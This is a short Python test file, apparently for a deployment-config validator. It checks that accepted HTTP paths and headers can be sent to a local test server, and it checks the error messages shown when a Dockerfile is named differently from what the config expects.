def test_what_the_settings_take_can_be_sent(where: str, text: str) -> None:
    path, headers = "/", {"X": "1"}
    if where == "path":
        path += text
    else:
        headers = {text: "1"} if where == "name" else {"X": text}
    said: list[Problem] = []
    TEST.check(nodes_of({"http": path, "headers": headers}, Place("file")), said)
    if not said:
        with serving(http()) as server:
            assert request("GET", f"{server.url}{path}", headers=headers).status == 200


def test_a_dockerfile_by_its_usual_name_is_told_how_to_be_named(root: Path) -> None:
    (root / "Dockerfile.lambda").unlink()
    (root / "Dockerfile").write_text("FROM scratch\n")
    (said,) = problems(root, "functions:\n  orders:\n    image: {}\n")
    assert said == (
        "3: file 'Dockerfile.lambda' does not exist; to use the existing "
        "Dockerfile, set dockerfile: Dockerfile"
    )
    (said,) = problems(root, "functions:\n  orders:\n    image: Dockerfile\n")
    assert said.endswith("expected a mapping, got 'Dockerfile'; write it as dockerfile: Dockerfile")
